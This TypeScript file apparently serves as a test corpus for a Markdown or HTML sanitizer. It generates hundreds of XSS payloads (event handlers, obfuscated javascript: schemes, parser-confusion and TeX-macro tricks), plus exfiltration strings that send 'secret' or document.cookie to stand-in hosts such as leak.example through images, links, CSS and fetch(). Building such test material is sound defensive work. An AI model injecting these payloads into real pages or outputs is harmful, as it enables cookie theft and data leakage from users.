// Texts that try to run something or to tell somebody: generated from lists, so that there are many of each kind.

const calls = ["alert(1)", "window.pwned=1", "fetch('http://leak.example/x')", "top.pwned=document.cookie"];
const events = ["onerror", "onload", "onmouseover", "onfocus", "onclick", "onanimationstart", "ontoggle", "onpointerenter", "onbegin"];
const elements = [
  "img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "audio src=x", "iframe src=x", "object data=x",
  "marquee", "select autofocus", "math", "style", "a href=x", "form", "isindex", "keygen autofocus", "textarea autofocus",
];
const schemes = ["javascript:", "JaVaScRiPt:", "java\tscript:", "java&#10;script:", "&#106;avascript:", "data:text/html,", "data:text/html;base64,", "vbscript:", "blob:", "javascript&colon;", "\u0001javascript:", "view-source:javascript:"];
const wholes = [
  "<script>window.pwned=1</script>", "<script src=//leak.example/x.js></script>", "<ScRiPt>window.pwned=1</sCrIpT>", "<scr<script>ipt>window.pwned=1</script>",
  "</script><script>window.pwned=1</script>", "<!--><script>window.pwned=1</script>-->", "<![CDATA[<script>window.pwned=1</script>]]>",
  "<?xml version='1.0'?><script>window.pwned=1</script>", "<svg><script>window.pwned=1</script></svg>", "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
  "<svg><use href='data:image/svg+xml,<svg id=x><script>window.pwned=1</script></svg>#x'/></svg>", "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
  "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>", "<iframe srcdoc='<script>top.pwned=1</script>'></iframe>",
  "<template><script>window.pwned=1</script></template>", "<base href=http://leak.example/>", "<meta http-equiv=refresh content='0;url=http://leak.example/'>",
  "<link rel=stylesheet href=http://leak.example/x.css>", "<style>@import 'http://leak.example/x.css';</style>", "<form action=http://leak.example><input type=submit autofocus></form>",
  "<img src='x' onerror='window.pwned=1'//", "\"><img src=x onerror=window.pwned=1>", "'><svg onload=window.pwned=1>", "`-window.pwned=1-`", "${window.pwned=1}", "{{constructor.constructor('window.pwned=1')()}}",
  "<a href='javascript:window.pwned=1'>x</a>", "&lt;script&gt;window.pwned=1&lt;/script&gt;", "&#60;script&#62;window.pwned=1&#60;/script&#62;", "\\x3cscript\\x3ewindow.pwned=1\\x3c/script\\x3e",
  "%3Cscript%3Ewindow.pwned=1%3C/script%3E", "\u003cscript\u003ewindow.pwned=1\u003c/script\u003e", "<x/onpointerenter=window.pwned=1>hover", "<button popovertarget=x>x</button><p popover id=x onbeforetoggle=window.pwned=1>",
  "$\\href{javascript:window.pwned=1}{x}$", "$\\url{javascript:window.pwned=1}$", "$\\htmlClass{x}{y}$", "$\\htmlData{x=y}{z}$", "$\\htmlStyle{background:url(http://leak.example)}{x}$", "$\\includegraphics{http://leak.example/x.png}$",
  "$\\def\\x{\\x\\x}\\x$", "$$\\unicode{<script>window.pwned=1</script>}$$", "$\\text{<img src=x onerror=window.pwned=1>}$", "$\\class{x}{<svg onload=window.pwned=1>}$", "```html\n<script>window.pwned=1</script>\n```",
  "```\"><img src=x onerror=window.pwned=1>\ncode\n```", "```<svg/onload=window.pwned=1>\ncode\n```", "[x]: javascript:window.pwned=1\n\n[x]", "[x]: <javascript:window.pwned=1> 'y'\n\n![x]", "<javascript:window.pwned=1>",
  "__proto__", "constructor", "\u202e<script>window.pwned=1</script>", "\u0000<script>window.pwned=1</script>", "<\u0000script>window.pwned=1</script>", "<plaintext>", "<xmp><script>window.pwned=1</script></xmp>",
];

export const payloads: string[] = [
  ...wholes,
  ...elements.flatMap((element) => events.map((event, at) => `<${element} ${event}=${calls[at % calls.length]}>`)),
  ...elements.flatMap((element) => events.slice(0, 7).map((event) => `<${element.replace(" ", "/")}/${event}="window.pwned=1"//`)),
  ...schemes.flatMap((scheme) => [
    `[x](${scheme}window.pwned=1)`, `[x](<${scheme}window.pwned=1>)`, `![x](${scheme}window.pwned=1)`, `<a href="${scheme}window.pwned=1">x</a>`,
    `<${scheme}window.pwned=1>`, `[x][1]\n\n[1]: ${scheme}window.pwned=1`, `[x](${scheme}window.pwned=1 "onclick=window.pwned=1")`, `<iframe src="${scheme}window.pwned=1">`,
  ]),
  ...events.flatMap((event) => [
    `[x](https://x.example "\\" ${event}=window.pwned=1 x=\\"")`, `![" ${event}="window.pwned=1](https://x.example/y)`, `[x](https://x.example/"${event}="window.pwned=1)`,
    `\`" ${event}="window.pwned=1\``, `# <p ${event}=window.pwned=1>`, `> <p ${event}=window.pwned=1>`, `$\\text{" ${event}="window.pwned=1}$`,
  ]),
  ...calls.flatMap((call) => [`<svg><set attributeName=href to=javascript:${call}>`, `<svg onload=${call}>`, `<img src=1 onerror=${call} `, `</title><script>${call}</script>`, `</textarea><script>${call}</script>`]),
];

// Each would, if obeyed, ask or look up a host of its own: leak-N.example.
export const leaks: string[] = Array.from({ length: 30 }, (_, n) => n).flatMap((n) => {
  const host = (kind: string) => `leak-${n}-${kind}.example`;
  return [
    `![a](https://${host("image")}/x.png?q=secret)`, `<img src=http://${host("html")}/x>`, `[r]: http://${host("reference")}/x.png\n\n![r]`,
    `<link rel=preload as=image href=//${host("preload")}/x> <link rel=dns-prefetch href=//${host("dns")}>`, `<style>body{background:url(http://${host("style")}/x)}</style>`,
    `[innocent](https://${host("link")}/collect?d=secret)`, `https://${host("bare")}/collect?d=secret`, `$\\includegraphics{http://${host("tex")}/x.png}$`,
    `<video src=http://${host("video")}/x autoplay></video><audio src=http://${host("audio")}/x>`,
  ];
});
